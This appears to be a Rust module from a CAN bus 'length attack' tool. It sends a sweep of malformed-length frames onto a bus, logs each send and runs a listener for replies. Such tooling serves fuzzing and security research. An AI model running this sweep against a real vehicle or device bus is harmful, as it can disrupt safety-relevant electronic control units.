use crate::bus::CanBus;
use crate::generator::{SweepConfig, generate};
use crate::listener::{DEFAULT_JOIN_TIMEOUT, DEFAULT_POLL_TIMEOUT, Listener, ListenerShutdown};
use chrono::Local;
use rand::Rng;
use std::fs::{File, OpenOptions};
use std::io::Write;
use std::path::PathBuf;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::{Duration, Instant};
use tracing::{debug, info, warn};

/// Receives every line the worker produces, in order.
pub type LineSink = Arc<dyn Fn(&str) + Send + Sync>;

const LINE_TIMESTAMP_FORMAT: &str = "%Y-%m-%dT%H:%M:%S%.6f";
const CANCEL_CHECK: Duration = Duration::from_millis(20);

#[derive(Debug, Clone)]
pub struct LengthAttackOptions {
    pub sweep: SweepConfig,
    /// Suppresses the send reports on the sink; receive lines are still emitted.
    pub quiet: bool,
    /// Send reports are appended here as well.
    pub log_path: Option<PathBuf>,
    pub poll_timeout: Duration,
    pub join_timeout: Duration,
}

impl Default for LengthAttackOptions {
    fn default() -> Self {
        Self {
            sweep: SweepConfig::default(),
            quiet: false,
            log_path: None,
            poll_timeout: DEFAULT_POLL_TIMEOUT,
            join_timeout: DEFAULT_JOIN_TIMEOUT,
        }
    }
}

#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
pub struct AttackStats {
    pub sent: u64,
    pub failed: u64,
    pub received: u64,
    pub cancelled: bool,
    pub listener_abandoned: bool,
}

fn now() -> String {
    Local::now().format(LINE_TIMESTAMP_FORMAT).to_string()
}

struct AttackLog {
    file: Option<File>,
}

impl AttackLog {
    fn open(path: Option<&PathBuf>) -> Self {
        let file = path.and_then(|path| {
            match OpenOptions::new().create(true).append(true).open(path) {
                Ok(file) => Some(file),
                Err(e) => {
                    warn!(
                        path = %path.display(),
                        error = %e,
                        "could not open log file, continuing without it"
                    );
                    None
                }
            }
        });
        let mut log = Self { file };
        log.write(&format!("# lenattack log started: {}", now()));
        log
    }

    fn write(&mut self, line: &str) {
        if let Some(file) = self.file.as_mut() {
            if let Err(e) = writeln!(file, "{line}") {
                warn!(error = %e, "log file write failed, closing it");
                self.file = None;
            }
        }
    }
}

impl Drop for AttackLog {
    fn drop(&mut self) {
        self.write(&format!("# lenattack log ended: {}", now()));
    }
}

/// Sleeps for `duration` unless `cancel` is raised first. Returns false if cancelled.
fn pause(duration: Duration, cancel: &AtomicBool) -> bool {
    let deadline = Instant::now() + duration;
    loop {
        if cancel.load(Ordering::SeqCst) {
            return false;
        }
        let now = Instant::now();
        if now >= deadline {
            return true;
        }
        thread::sleep((deadline - now).min(CANCEL_CHECK));
    }
}

/// Sends the malformed-length sweep on `bus` and reports every send.
///
/// A listener runs alongside and reports received traffic as `[RECV]` lines.
/// A failed send is reported and the sweep carries on. Raising `cancel`
/// stops the sweep between frames; frames already sent stay sent.
pub fn run_length_attack<R: Rng>(
    bus: Arc<dyn CanBus>,
    options: &LengthAttackOptions,
    rng: R,
    sink: LineSink,
    cancel: &AtomicBool,
) -> AttackStats {
    let mut stats = AttackStats::default();
    let sweep = generate(options.sweep.clone(), rng);
    info!(
        channel = bus.channel(),
        targets = sweep.config().targets.len(),
        repeat = sweep.config().repeat,
        "starting length attack"
    );

    let recv_sink = Arc::clone(&sink);
    let listener = match Listener::spawn(Arc::clone(&bus), options.poll_timeout, move |frame| {
        recv_sink(&frame.recv_line())
    }) {
        Ok(listener) => Some(listener),
        Err(e) => {
            warn!(error = %e, "could not start listener, continuing without it");
            None
        }
    };

    let mut log = AttackLog::open(options.log_path.as_ref());

    for scheduled in sweep {
        if cancel.load(Ordering::SeqCst) {
            stats.cancelled = true;
            break;
        }
        let frame = &scheduled.frame;
        let ts = now();
        let line = match bus.send(frame) {
            Ok(()) => {
                stats.sent += 1;
                format!(
                    "{ts} [SUCCESS] SEND ID=0x{:X} DLC={} LEN={} DATA={}",
                    frame.arbitration_id,
                    frame.dlc,
                    frame.len(),
                    frame.data_hex()
                )
            }
            Err(e) => {
                stats.failed += 1;
                debug!(error = %e, id = frame.arbitration_id, "send failed");
                format!(
                    "{ts} [FAIL] SEND ID=0x{:X} DLC={} LEN={} (Socket/Bus Error)",
                    frame.arbitration_id,
                    frame.dlc,
                    frame.len()
                )
            }
        };
        if !options.quiet {
            sink(&line);
        }
        log.write(&line);

        if !pause(scheduled.delay_after, cancel) {
            stats.cancelled = true;
            break;
        }
    }

    if let Some(listener) = listener {
        let seen = listener.frames_seen();
        match listener.stop(options.join_timeout) {
            ListenerShutdown::Joined(frames) => stats.received = frames,
            ListenerShutdown::Abandoned => {
                stats.received = seen;
                stats.listener_abandoned = true;
            }
        }
    }
    drop(log);
    if stats.cancelled {
        sink("Interrupted by user - stopping length attack.");
    }
    info!(
        sent = stats.sent,
        failed = stats.failed,
        received = stats.received,
        cancelled = stats.cancelled,
        "length attack finished"
    );
    stats
}
